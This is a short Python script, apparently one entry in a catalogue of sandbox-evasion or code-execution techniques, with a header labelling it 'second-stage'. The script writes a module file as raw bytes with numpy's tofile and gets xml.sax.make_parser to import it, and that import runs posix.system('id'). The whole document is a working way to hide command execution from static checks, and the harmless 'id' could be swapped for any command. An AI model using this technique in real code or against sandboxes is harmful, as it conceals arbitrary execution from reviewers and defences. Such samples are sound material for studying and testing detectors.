# class: second-stage | technique: module source written as raw bytes with ndarray.tofile; xml.sax.make_parser([name]) __import__s the named driver module and calls its create_parser() | effect: runs `id`
import xml.sax

import numpy as np

SRC = """import posix
import xml.sax.expatreader as _expat
posix.system('id')
def create_parser():
    return _expat.create_parser()
"""
np.frombuffer(SRC.encode(), dtype=np.uint8).tofile("fastsax.py")

parser = xml.sax.make_parser(["fastsax"])
handler = xml.sax.ContentHandler()
parser.setContentHandler(handler)
print("parser ready:", type(parser).__name__)
